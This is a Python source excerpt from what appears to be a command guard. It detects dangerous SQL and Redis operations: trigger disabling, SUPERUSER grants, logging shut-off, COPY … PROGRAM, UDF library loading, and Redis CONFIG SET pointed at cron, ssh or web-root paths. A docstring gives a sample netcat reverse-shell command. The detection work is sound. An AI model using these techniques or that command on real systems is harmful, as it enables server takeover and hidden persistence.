_DISABLE = re.compile(r"(?is)\balter\s+table\s+(?:only\s+)?(?:if\s+exists\s+)?([\w.\"]+)\s+disable\s+trigger\s+"
                      r"([\w\"]+)|\bset\s+(?:session\s+|local\s+)?session_replication_role\s*(?:=|\bto\b)\s*"
                      r"'?replica\b")
_WRITE = re.compile(r"(?is)\b(?:insert\s+into|update|delete\s+from|copy)\s+(?:only\s+)?([\w.\"]+)")


def guard_off(text: str) -> tuple[str, str] | None:
    """(what was turned off, the write made past it) when `text` disables a table's trigger (or every trigger of the
    session) and then writes rows (to that table, for one trigger); None otherwise."""
    if len(text) > 20000 or not _GUARD_HINT.search(text):
        return None
    text = _COMMENT.sub(_uncommented, text)
    quiet = _NOISE.sub(_quiet, text)
    for m in _DISABLE.finditer(quiet):
        table = (m.group(1) or "").replace('"', "").lower()
        for w in _WRITE.finditer(quiet, m.end()):
            target = w.group(1).replace('"', "").lower()
            if not table or target == table or target.rsplit(".", 1)[-1] == table.rsplit(".", 1)[-1]:
                shown = f"ALTER TABLE {m.group(1)} DISABLE TRIGGER {m.group(2)}" if table else \
                    "SET session_replication_role = replica"
                return shown, " ".join(w.group(0).split()).upper().rsplit(" ", 1)[0] + " " + w.group(1)
    return None


def privilege(text: str) -> tuple[str, str] | None:
    """(rule, block message) for SQL that makes an account all-powerful on the server (`privilege-escalation`) or
    keeps one account's statements out of the server's log (`anti-forensics`); None otherwise."""
    if len(text) > 20000 or not _PRIVILEGE_HINT.search(text):
        return None
    text = _COMMENT.sub(_uncommented, text)
    return _privilege(_NOISE.sub(_quiet, text)) or _unlogged(text)


def _privilege(text: str) -> tuple[str, str] | None:
    for m in _ROLE.finditer(text):
        if _SUPERUSER.search(m.group(3)):
            return ("privilege-escalation", f"`{m.group(1).upper()} ROLE {m.group(2)} … SUPERUSER` makes an account that "
                                            "can do anything on the database server (read every table, run shell "
                                            "commands through COPY … PROGRAM, turn logging off); create it with the "
                                            "privileges the work needs (GRANT on the schemas and tables), or let the "
                                            "user do it")
    m = _GRANT_POWER.search(text)
    if m is not None:
        what = (m.group(1) or "ALL ON *.* … WITH GRANT OPTION").upper()
        return ("privilege-escalation", f"`GRANT {what}` gives an account power over the whole server (every "
                                        "database, its files or shell commands, other accounts); grant the "
                                        "privileges the work needs on its own schemas and tables, or let the user do "
                                        "it")
    return None


def _unlogged(text: str) -> tuple[str, str] | None:
    m = _UNLOGGED.search(text)
    if m is None:
        return None
    return ("anti-forensics", "the SQL keeps an account's statements out of the server's log (`log_statement = 'none'`, "
                              "`pgaudit.log = 'none'`): what it does afterwards leaves no trace; leave logging as it is")


_STAGES = re.compile(r"[|;&]+")
# where the server's own tools take its WAL: another machine of the user's, reached with its keys
_OWN_COPIERS = frozenset({"ssh", "scp", "sftp", "rsync"})


def _sender(command: str, senders: frozenset, own: bool = True) -> str | None:
    """The network program a stage of `command` starts (with `own`, not one of the user's own copiers), or None."""
    for part in _STAGES.split(command):
        name = (part.split() or [""])[0].rsplit("/", 1)[-1]
        if name in senders and not (own and name in _OWN_COPIERS):
            return name
    return None


def _foreign_library(path: str) -> bool:
    """A native library named by a path outside the server's library directories (`/tmp/x.so`, a home, the data
    directory a `lo_export` can write), or one of the UDFs made to run shell commands; a bare name or `$libdir/…`
    is the server's own."""
    if _UDF_NAMES.search(path):
        return True
    if "/" not in path and "\\" not in path:
        return False
    return not path.startswith(_LIBRARY_DIRS)


def server_effects(text: str) -> list[Effect]:
    """Programs the SQL `text` runs, files it reads or writes, and native libraries it loads on the machine it runs
    on, in order."""
    if len(text) > 20000 or not _SERVER_HINT.search(text):
        return []
    text = _COMMENT.sub(_uncommented, text)
    out: list[Effect] = []
    for m in _PROGRAM.finditer(text):
        to = m.group(1).lower() == "to"
        out.append(Effect("program-to" if to else "program-from", _string(m, 2),
                          f"COPY … {'TO' if to else 'FROM'} PROGRAM"))
    for m in _COPY_FILE.finditer(text):
        to = m.group(1).lower() == "to"
        out.append(Effect("write" if to else "read", _string(m, 2), f"COPY … {'TO' if to else 'FROM'} a file"))
    for m in _READS.finditer(text):
        call = m.group(1) is not None or m.group(3) is not None
        out.append(Effect("read", _string(m, 1 if call else 4),
                          m.group(0).split("(")[0].split()[0].upper() if call else "LOAD DATA INFILE"))
    for m in _WRITES.finditer(text):
        first = 1 if m.group(1) is not None or m.group(3) is not None else 4
        out.append(Effect("write", _string(m, first), " ".join(m.group(0).split("(")[0].split()[:2]).upper()))
    for m in _COMMANDS.finditer(text):
        out.append(Effect("command", _string(m, 1), m.group(0).split("(")[0].split()[0].lower()))
    out += _native(text)
    for m in _SETTING.finditer(text):
        name, value = m.group(1).lower(), _string(m, 2)
        if name in _RUN_SETTINGS and value.strip():
            out.append(Effect("setting", value, f"ALTER SYSTEM SET {name}"))
        elif name in _LIB_SETTINGS:
            out += [Effect("library", lib.strip().strip('"'), f"ALTER SYSTEM SET {name}")
                    for lib in value.replace(":", ",").split(",") if lib.strip()]
    return out


def _uncommented(m: re.Match) -> str:
    return m.group(1) if m.group(1) is not None else " "


def _native(text: str) -> list[Effect]:
    """`CREATE FUNCTION f(cstring) … AS '/tmp/x.so', 'f' LANGUAGE C`, `CREATE FUNCTION sys_exec RETURNS int SONAME
    'lib_mysqludf_sys.so'`, `LOAD '/tmp/x.so'`: the library each loads; and the literal string each such function is
    then called with (`SELECT f('nc 203.0.113.4 4444 -e /bin/sh')`), a command line to such a function."""
    out: list[Effect] = []
    names: list[str] = []
    for m in _FUNCTION.finditer(text):
        name, body = m.group(1).strip('"`'), m.group(2)
        lib = None
        soname = _SONAME.search(body)
        if soname is not None:
            lib, verb = soname.group(1) or soname.group(2) or "", "CREATE FUNCTION … SONAME"
        elif _LANGUAGE_C.search(body):
            obj = _OBJ_FILE.search(body)
            lib, verb = (_string(obj, 1) if obj is not None else None), "CREATE FUNCTION … LANGUAGE C"
        if lib is None:
            continue
        if _UDF_NAMES.search(name):  # `sys_exec` from a library of any name: the function says what it is for
            lib = f"{lib} (for {name})"
        if _foreign_library(lib):
            names.append(name.rsplit(".", 1)[-1])
        out.append(Effect("library", lib, verb))
    for m in _LOAD.finditer(text):
        out.append(Effect("library", _string(m, 1), "LOAD"))
    for name in names:
        for call in re.finditer(r"(?is)(?<![\w.])" + re.escape(name) + r"\s*\(\s*" + _STR, text):
            out.insert(0, Effect("command", _string(call, 1), f"{name}(…)"))
    return out


# -- Redis told to write its snapshot where the system runs it (session 10; shared with code in session 14) ---------
# `CONFIG SET dir /var/spool/cron/crontabs`, `CONFIG SET dbfilename root`, a key holding a cron line (or an ssh key,
# a PHP page), `SAVE`: the snapshot is written where the system runs or trusts it. redis-cli, a script handed to it,
# redis-py's `config_set` and ioredis's `config` read the same.
_WEB_ROOTS = ("/var/www", "/usr/share/nginx", "/srv/www", "/srv/http", "/usr/local/apache2/htdocs", "/opt/lampp/htdocs")
_SYSTEM_DIRS = frozenset({"/", "/etc", "/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/local/bin", "/usr/local/sbin",
                          "/lib", "/usr/lib", "/boot"})
_PLANTED_NAME = re.compile(r"(?i)^(?:authorized_keys2?|root|crontab|\.(?:bash_profile|bashrc|profile|zshrc|zprofile|"
                           r"zshenv|bash_login)|.+\.(?:php\d?|phtml|phar|jspx?|aspx?|cgi))$")


def redis_plant(key: str, value: str) -> bool:
    """Whether `CONFIG SET key value` points Redis's snapshot at a place the system runs or trusts: `dir` at a
    start-up, cron, ssh, home, system or web-root directory, `dbfilename` at authorized_keys, a crontab's or a shell
    start-up file's name, a web page. A data directory (`/var/lib/redis`, `/data`) and `dump.rdb` are its own."""
    key = key.lower()
    if key == "dbfilename":
        return _PLANTED_NAME.match(value.rsplit("/", 1)[-1]) is not None
    if key != "dir":
        return False
    from . import paths

    p = paths.normalize(value.rstrip("/") or "/")
    return p in _SYSTEM_DIRS or p.startswith(_WEB_ROOTS) or p.rsplit("/", 1)[-1] == ".ssh" or \
        not paths.kinds(p).isdisjoint((paths.PERSISTENCE, paths.SECRET, paths.HOME))


def redis_planted_pair(words: list, command: bool = False) -> tuple[str, str] | None:
    """The first `key value` pair redis_plant finds in a CONFIG SET's arguments (`words`; with `command`, the whole
    command `CONFIG SET key value …`, anything else giving None); words not known (None) are passed over. The shell
    and the clients in code read their words differently and share this."""
    if command:
        if len(words) < 4 or (words[0] or "").lower() != "config" or (words[1] or "").lower() != "set":
            return None
        words = words[2:]
    for key, value in zip(words[::2], words[1::2]):
        if key is not None and value is not None and redis_plant(key, value):
            return key, value
    return None


def redis_plant_message(shown: str, key: str, value: str) -> str:
    """The block message for `CONFIG SET key value` sent by `shown` (`redis-cli`, `r.config_set`)."""
    where = f"into {value}" if key.lower() == "dir" else f"as {value}"
    return (f"`{shown}` runs `CONFIG SET {key.lower()} {value}`, which makes Redis write its snapshot {where}: with a "
            "crafted key it becomes a cron job, an authorized ssh key, a shell start-up file or a web shell; keep "
            "Redis's dir and dbfilename at its own data directory and dump.rdb")
